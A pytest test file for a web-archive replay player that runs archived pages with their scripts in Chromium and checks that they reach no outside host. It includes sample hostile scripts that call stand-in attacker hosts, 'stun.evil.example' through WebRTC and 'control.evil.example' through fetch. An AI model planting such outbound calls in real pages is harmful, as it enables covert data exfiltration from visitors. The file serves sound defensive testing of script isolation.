"""Pages with their scripts in a real Chromium, for which every other name is that of a sentinel."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from archive.exceptions import PlayerError
from archive.replay.player import Player
from tests.archive.replay.png import png
from tests.archive.replay.sentinel import Sentinel
from tests.archive.replay.world import DataFolder, Replay
from tests.chromium import find_chromium

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import BrowserContext, Page

pytestmark = pytest.mark.browser

SITE = "https://news.example"
HOSTILE = (Path(__file__).parent / "pages" / "hostile.html").read_text()
CALLING = """<!doctype html><p id=inline>before</p><script>
document.getElementById("inline").textContent = "ran";
setTimeout(async () => {
  const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.evil.example:PORT" }] });
  call.createDataChannel("x");
  await call.setLocalDescription(await call.createOffer());
}, 1000);
</script>"""
KNOWS_ALLOWLISTS = 152
"""The first Chromium that holds a page to a Connection-Allowlist."""


@pytest.fixture(scope="module")
def sentinel() -> Iterator[Sentinel]:
    with Sentinel() as sentinel:
        yield sentinel


@pytest.fixture(scope="module")
def replay(
    tmp_path_factory: pytest.TempPathFactory, sentinel: Sentinel
) -> Iterator[tuple[Replay, dict[str, str]]]:
    folder = tmp_path_factory.mktemp("scripts")
    player = Player(folder / "player")
    try:
        player.fetch(say=lambda _: None)
    except PlayerError as error:
        pytest.skip(str(error))
    with DataFolder(folder / "data") as data:
        ids = {
            name: data.record(f"{SITE}/{name}", data.put(f"{SITE}/{name}", page), title="A title")
            for name, page in {
                "hostile": HOSTILE,
                "calling": CALLING.replace("PORT", str(sentinel.port)),
            }.items()
        }
        code = "document.getElementById('external').textContent = 'ran'"
        data.put(f"{SITE}/a.js", code, "text/javascript")
        data.put("https://cdn.example/a.css", "#styled{color:rgb(1,120,3)}", "text/css")
        data.put("https://cdn.example/p.png", png(120, 40, (200, 30, 30)), "image/png")
    with Replay(folder / "data", ("--with-scripts", str(player.folder), "--scripts-port", "0")) as running:
        yield running, ids


@pytest.fixture(scope="module")
def context(sentinel: Sentinel, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
    """A Chromium as people have it: what Playwright turns off makes it refuse service workers in frames."""
    executable = find_chromium()
    if executable is None:
        pytest.skip("no Chromium here: python -m tests.chromium installs one")
    from playwright.sync_api import sync_playwright  # noqa: PLC0415 - an extra that may be missing

    arguments = [
        *("--headless", "--no-sandbox", "--remote-debugging-pipe", "--no-first-run", "about:blank"),
        *("--disable-background-networking", "--disable-component-update"),
        "--disable-features=LocalNetworkAccessChecks",  # the sentinel stands for hosts that are far away
        f"--user-data-dir={tmp_path_factory.mktemp('profile')}",
        f"--host-resolver-rules=MAP * 127.0.0.1:{sentinel.port}, EXCLUDE *.localhost, EXCLUDE 127.0.0.1",
    ]
    with sync_playwright() as playwright:
        context = playwright.chromium.launch_persistent_context(
            "", executable_path=executable, ignore_default_args=True, args=arguments
        )
        yield context
        context.close()


def knows_allowlists(page: Page) -> bool:
    """Tell whether this Chromium holds a page to a Connection-Allowlist."""
    version = page.evaluate("Number(/Chrome\\/(\\d+)/.exec(navigator.userAgent)[1])")
    return bool(version >= KNOWS_ALLOWLISTS)


def played(page: Page, running: Replay, record_id: str) -> Any:
    """Open a record's page with scripts; return the archived page's frame once its script ran."""
    page.goto(f"{running.interface}/record/{record_id}/scripts")
    replayed = page.frame_locator("iframe.replay").frame_locator("replay-web-page iframe")
    frame = replayed.frame_locator("iframe[name='___wb_replay_top_frame']")
    frame.locator("#inline", has_text="ran").wait_for(timeout=20_000)
    return frame


def test_the_sentinel_sees_what_nothing_holds_back(context, sentinel):
    page = context.new_page()
    page.goto("about:blank")
    page.evaluate("fetch('http://control.evil.example/', { mode: 'no-cors' }).catch(() => null)")
    assert "control.evil.example" in sentinel.names
    sentinel.names.clear()
    page.close()


def test_scripts_run_and_reach_nobody(context, replay, sentinel):
    running, ids = replay
    before = context.pages
    page = context.new_page()
    frame = played(page, running, ids["hostile"])
    frame.locator("body[data-result]").wait_for(state="attached", timeout=60_000)
    assert frame.locator("#external").inner_text() == "ran"
    colour = frame.locator("#styled").evaluate("element => getComputedStyle(element).color")
    assert colour == "rgb(1, 120, 3)"
    assert frame.locator("#image").evaluate("element => element.naturalWidth") == 120
    result = json.loads(frame.locator("body").get_attribute("data-result"))
    page.wait_for_timeout(2000)
    check_nothing_is_reached(result)
    if not knows_allowlists(page):
        sentinel.names -= {"preconnect.evil.example"}
    assert sentinel.names == set()
    assert page.url == f"{running.interface}/record/{ids['hostile']}/scripts"
    assert page.title() == "A title · Venue Archive"
    assert page.context.cookies() == []
    assert page.evaluate("localStorage.length + document.cookie.length") == 0
    assert page.evaluate("indexedDB.databases()") == []
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then(all => all.length)") == 0
    assert page.context.pages == [*before, page]
    page.close()


def check_nothing_is_reached(result: dict[str, str]) -> None:
    """What the script saw; in the page's own window the player answers in the place of the web."""
    assert result["clean"] == "true"
    for place in ("clean", "app", "view"):
        assert result[f"{place}-fetch"] == "TypeError", place
        assert result[f"{place}-socket"] == "closed", place
        assert result[f"{place}-worker"] in {"SecurityError", "InvalidStateError"}, place
    assert result["page-worker"] == "refused"
    assert result["interface"] == "TypeError"
    for name in ("missing", "api", "index", "ui", "none"):
        assert result[f"answer-{name}"] == "TypeError", name
    assert result["open"] == "null"
    for name in ("document", "address", "navigation"):
        assert result[f"top-{name}"] == "SecurityError", name


def test_a_page_that_calls_others_sends_no_packet(context, replay, sentinel):
    page = context.new_page()
    if not knows_allowlists(page):
        pytest.skip(f"before Chromium {KNOWS_ALLOWLISTS} pages can use WebRTC")
    other = context.new_page()
    played(page, replay[0], replay[1]["calling"])
    other.wait_for_timeout(4000)  # not on the page itself: Chromium 156 ends its frame for the attempt
    assert sentinel.packets == 0
    other.close()
